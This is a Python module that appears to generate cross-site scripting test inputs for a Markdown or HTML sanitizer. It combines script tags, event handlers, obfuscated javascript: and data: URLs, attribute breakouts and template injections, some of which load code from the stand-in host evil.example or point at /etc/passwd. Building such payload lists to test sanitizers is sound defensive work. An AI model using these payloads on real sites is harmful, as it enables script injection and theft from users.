"""Text that would run a script, load something or lead somewhere, in a page that takes text for markup.

The classes: elements that run by themselves, event handlers, addresses of every scripting scheme and spelling, ways
out of attributes, comments and code, Markdown's own links and images around all of these, and broken markup.
"""

from __future__ import annotations

import itertools

RUN = "alert(1)"
FOREIGN = "//evil.example/x"

ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<script src={FOREIGN}></script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<svg><script>{RUN}</script></svg>",
    f"<img src={FOREIGN}>",
    f"<iframe src={FOREIGN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data={FOREIGN}></object>",
    f"<embed src={FOREIGN}>",
    f"<link rel=stylesheet href={FOREIGN}>",
    f"<style>@import '{FOREIGN}';</style>",
    f"<style>*{{background:url({FOREIGN})}}</style>",
    f"<base href={FOREIGN}>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}'>",
    f"<video src={FOREIGN} autoplay></video>",
    f"<audio src={FOREIGN} autoplay></audio>",
    f"<form action={FOREIGN}><button>send</button></form>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<svg><use href='{FOREIGN}#x'/></svg>",
    f"<svg><image href={FOREIGN} /></svg>",
    f"<input type=image src={FOREIGN}>",
    f"<body background={FOREIGN}>",
]
TAGS = [
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "input autofocus",
    "select autofocus",
    "marquee",
    "a href=#",
]
EVENTS = ["onerror", "onload", "ontoggle", "onfocus", "onstart", "onmouseover", "onanimationstart", "onpointerenter"]
SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    f"view-source:javascript:{RUN}",
    "file:///etc/passwd",
    f"blob:{FOREIGN}",
    f"https:javascript:{RUN}",
    FOREIGN,
]
WRAPPERS = [
    "[click]({})",
    "[click](<{}>)",
    "![x]({})",
    "<{}>",
    "[![x]({})](https://ok.example)",
    "[a]({} \"onmouseover='alert(1)'\")",
    '<a href="{}">x</a>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
]
BREAKOUTS = [
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"-->{'<'}script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</code></pre><img src=x onerror={RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<%= {RUN} %>",
    f"\u2028<script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
    f"<scr<script>ipt>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f'<a href="https://ok.example" onclick={RUN}>x</a>',
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]
SETTINGS = ["{}", "```html\n{}\n```", "```{}\nx\n```", "`{}`", "| a |\n|---|\n| {} |", "> - {}", "# {}", "**{}**"]


def payloads() -> list[str]:
    """Several hundred of them, all different."""
    handlers = [f"<{tag} {event}={RUN}>" for tag, event in itertools.product(TAGS, EVENTS)]
    links = [wrapper.format(scheme) for wrapper, scheme in itertools.product(WRAPPERS, SCHEMES)]
    settings = [setting.format(text) for setting, text in itertools.product(SETTINGS[1:], ELEMENTS + BREAKOUTS)]
    return list(dict.fromkeys(ELEMENTS + BREAKOUTS + handlers + links + settings))


def file_name_payloads() -> list[str]:
    return [text.replace("/", "∕").replace("\0", "") for text in ELEMENTS + BREAKOUTS]
